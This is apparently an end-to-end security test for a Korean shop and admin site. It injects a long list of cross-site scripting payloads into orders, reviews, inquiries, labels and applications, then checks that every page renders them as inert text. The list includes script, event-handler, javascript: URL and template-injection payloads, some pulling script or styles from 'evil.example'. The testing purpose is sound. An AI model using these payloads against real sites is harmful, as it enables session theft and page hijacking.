import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { adminOrders } from '#shop/order/contract/desk.ts'
import { desktop, phone, visitor } from './browser.ts'
import { anyBusinessNumber, ask, orderAs, payAsStaff } from './buyer.ts'
import { makeItem, staff } from './desk.ts'
import { logInAsOwner, open } from './steps.ts'

/** Each would run a script or make an element, if it were more than words. */
const hostile = [
  '<script>alert(1)</script>',
  '<script data-made src=//evil.example/x.js></script>',
  '</script><script>alert(1)</script>',
  '<img data-made src=x onerror=alert(1)>',
  '<img data-made src=x onerror="alert(String.fromCharCode(49))">',
  '<svg data-made onload=alert(1)>',
  '<svg data-made><script>alert(1)</script></svg>',
  '<svg data-made><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math data-made><mtext></mtext><mglyph><style></math><img src=x onerror=alert(1)>',
  '<iframe data-made src="javascript:alert(1)"></iframe>',
  '<iframe data-made srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data-made data="javascript:alert(1)"></object>',
  '<embed data-made src="javascript:alert(1)">',
  '<a data-made href="javascript:alert(1)">가기</a>',
  '<a data-made href=" java&#x09;script:alert(1)">가기</a>',
  '<form data-made action="javascript:alert(1)"><button>보내기</button></form>',
  '<button data-made formaction="javascript:alert(1)">보내기</button>',
  '<input data-made autofocus onfocus=alert(1)>',
  '<select data-made autofocus onfocus=alert(1)></select>',
  '<textarea data-made autofocus onfocus=alert(1)></textarea>',
  '<details data-made open ontoggle=alert(1)>',
  '<video data-made><source onerror=alert(1)></video>',
  '<audio data-made src=x onerror=alert(1)>',
  '<body data-made onload=alert(1)>',
  '<base data-made href="//evil.example/">',
  '<meta data-made http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link data-made rel=stylesheet href="//evil.example/x.css">',
  '<style data-made>@import "//evil.example/x.css";</style>',
  '<marquee data-made onstart=alert(1)>',
  '<div data-made style="background:url(javascript:alert(1))">',
  '<div data-made onpointerenter=alert(1) style="position:fixed;inset:0">',
  '"><img data-made src=x onerror=alert(1)>',
  "'><img data-made src=x onerror=alert(1)>",
  '" autofocus onfocus=alert(1) data-made="',
  "' onmouseover=alert(1) data-made='",
  '--><img data-made src=x onerror=alert(1)><!--',
  ']]><img data-made src=x onerror=alert(1)>',
  '</title><img data-made src=x onerror=alert(1)>',
  '</textarea><img data-made src=x onerror=alert(1)>',
  '&lt;img data-made src=x onerror=alert(1)&gt;',
  '<noscript><p title="</noscript><img data-made src=x onerror=alert(1)>">',
  '{{constructor.constructor("alert(1)")()}}',
  '<%= alert(1) %>',
  'javascript:alert(1)',
]
const all = hostile.join('\n')
/** For what has to be short. */
const short = '<i data-made>x</i>'
/** Without the signs of a tag. */
const breaking = '" autofocus onfocus=alert(1) data-made="'

/** Hooks the page: what runs or comes to be is told. */
async function watched(size: typeof phone) {
  const { page } = await visitor(size)
  const ran: string[] = []
  page.on('dialog', (dialog) => {
    ran.push(`${page.url()}: ${dialog.message()}`)
    void dialog.dismiss()
  })
  await page.addInitScript(() => {
    window.alert = () => document.documentElement.setAttribute('data-ran', '')
  })
  const look = async (path: string) => {
    await open(page, path)
    await page.waitForLoadState('networkidle')
    for (const frame of page.frames()) {
      const made = await frame.evaluate(() =>
        [...document.querySelectorAll('[data-made], [data-ran]')].map((one) => one.outerHTML),
      )
      expect([path, ran, made]).toEqual([path, [], []])
    }
    return (await page.locator('body').innerText()).includes('data-made')
  }
  return { page, look }
}

/** A form with files, sent as the page's own visitor. */
const send = (page: Page, path: string, fields: Record<string, string>) =>
  page.evaluate(
    async ({ path, fields }) => {
      const body = new FormData()
      for (const [key, value] of Object.entries(fields)) body.set(key, value)
      const token = decodeURIComponent(/XSRF-TOKEN=([^;]+)/.exec(document.cookie)?.[1] ?? '')
      const answer = await fetch(path, { method: 'POST', headers: { 'x-xsrf-token': token }, body })
      if (!answer.ok) throw new Error(`${path}: ${await answer.text()}`)
      return (await answer.json()).data
    },
    { path, fields },
  )

// case 144
test('what people write is words wherever it is read, in the shop and in the office', async () => {
  const { page, look } = await watched(phone)
  const call = await staff()
  const item = await makeItem({ it_name: '말 많은 초' })
  await open(page, '/contents/terms')
  const mb_id = `hostile${Date.now().toString(36)}`
  await ask(page, {
    path: '/api/v1/register',
    body: {
      mb_id,
      password: 'cedar Morning 7',
      mb_name: '서하늘',
      mb_email: `${mb_id}@mail.example`,
      mb_hp: '01012345678',
      agree_terms: true,
      agree_age: true,
      agree_privacy: true,
    },
  })
  // what stands on labels takes no tags at all
  await expect(
    orderAs(page, [{ item }], { od_b_addr2: short, od_memo: short, od_deposit_name: short }),
  ).rejects.toThrow(/od_b_addr2.*od_memo.*od_deposit_name/)
  const od_id = await orderAs(page, [{ item }], { od_b_addr2: breaking, od_memo: breaking })
  await payAsStaff(od_id)
  await call(adminOrders.ship, {
    params: { od_id },
    body: { company: 'cj', od_invoice: '640123450000' },
  })
  await ask(page, { path: `/api/v1/orders/${od_id}/completion`, body: {} })
  const lines = await ask<{ data: { ct_id: number }[] }>(page, {
    path: '/api/v1/my-review/writable',
    method: 'GET',
  })
  await send(page, '/api/v1/my-review', {
    ct_id: String(lines.data[0]?.ct_id),
    is_score: '4',
    is_content: all.slice(0, 2_000),
  })
  const asked = await send(page, '/api/v1/inquiry', {
    qa_category: 'etc',
    qa_subject: '<img data-made src=x onerror=alert(1)>',
    qa_content: all,
  })
  await ask(page, {
    path: '/api/v1/product-inquiry',
    body: {
      it_id: item.it_id,
      iq_category: 'use',
      iq_subject: '<svg data-made onload=alert(1)>',
      iq_question: all,
    },
  })
  const { data: formula } = await ask<{ data: { formula_id: number } }>(page, {
    path: '/api/v1/my-formulas',
    body: {
      ...{ title: breaking, product: 'perfume', basis: 'total' },
      ...{ load: 15, batch: 100, units: 1, notes: breaking, tags: ["' data-made='"] },
      lines: [{ material_id: null, name: breaking, amount: 3 }],
    },
  })
  const { data: design } = await ask<{ data: { design_id: number } }>(page, {
    path: '/api/v1/my-bottles',
    body: { title: short, doc: label },
  })
  const { data: applied } = await ask<{ data: { ap_id: number } }>(page, {
    path: '/api/v1/dealer-apply',
    body: application,
  })
  for (const click_name of hostile)
    await ask(page, {
      path: '/api/v1/click-log',
      body: {
        ...{ click_id: item.it_id, click_type: 'banner', platform: 'mobile' },
        click_name: click_name.slice(0, 60),
      },
    })

  const shown = new Map<string, boolean>()
  const shopPaths = [
    `/shop/product/${item.it_id}`,
    '/customer/product-inquiry',
    '/customer/product-review',
    '/my-page',
    '/my-page/account',
    `/my-page/order/${od_id}`,
    '/my-page/inquiry',
    `/my-page/inquiry/${asked.qa_id}/show`,
    '/my-page/product-inquiry',
    '/my-page/product-review',
    '/my-page/formula',
    `/my-page/formula/${formula.formula_id}/show`,
    '/my-page/bottle',
    `/custom/bottle?design=${design.design_id}`,
    `/customer/dealer-apply/${applied.ap_id}/show`,
    '/my-page/notification',
  ]
  for (const path of shopPaths) shown.set(path, await look(path))
  for (const word of hostile.filter((_, at) => at % 4 === 0))
    await look(`/shop/search?keyword=${encodeURIComponent(word)}`)

  const desk = await watched(desktop)
  await logInAsOwner(desk.page)
  const deskPaths = [
    '/admin',
    `/admin/orders?keyword=${od_id}`,
    `/admin/orders/${od_id}`,
    `/admin/orders/${od_id}/papers/packing-slip`,
    '/admin/reviews',
    '/admin/inquiries',
    `/admin/inquiries/personal/${asked.qa_id}`,
    `/admin/members?keyword=${mb_id}`,
    `/admin/members/${mb_id}`,
    '/admin/applications',
    `/admin/applications/${applied.ap_id}`,
    '/admin/statistics',
    '/admin/search',
    '/admin/audit',
    '/admin/notifications',
    '/admin/my-notifications',
    // its mails are pages in a frame
    '/mailbox',
  ]
  for (const path of deskPaths) shown.set(path, await desk.look(path))
  // not one of them is clean because it shows nothing of it
  for (const path of [
    `/shop/product/${item.it_id}`,
    `/my-page/order/${od_id}`,
    `/my-page/inquiry/${asked.qa_id}/show`,
    `/customer/dealer-apply/${applied.ap_id}/show`,
    `/admin/orders/${od_id}`,
    `/admin/inquiries/personal/${asked.qa_id}`,
    `/admin/applications/${applied.ap_id}`,
  ])
    expect([path, shown.get(path)]).toEqual([path, true])
}, 600_000)

const application = {
  company: short,
  business_number: anyBusinessNumber(),
  representative: '서하늘',
  opened_on: '2020-03-02',
  business_type: '소매업',
  business_item: '향초',
  zip: '04524',
  address: '<img data-made src=x onerror=alert(1)>',
  name: '서하늘',
  mobile: '010-1234-5678',
  email: 'evening@mail.example',
  region: '<img data-made src=x onerror=alert(1)>',
  homepage: 'https://evening.example',
  interest: '<img data-made src=x onerror=alert(1)>',
  privacy: true,
  secrecy: true,
}
const label = {
  v: 1,
  bottle_id: 1,
  cap: 'black',
  liquid: 'clear',
  finish: 'matt',
  shape: 'rect',
  ground: 'white',
  elements: [
    {
      ...{ id: 'e1', x: 20, y: 20, rotation: 0, type: 'text' },
      ...{ text: '<svg data-made onload=alert(1)>', face: 'pretendard', size: 10, ink: 'ink' },
    },
  ],
}
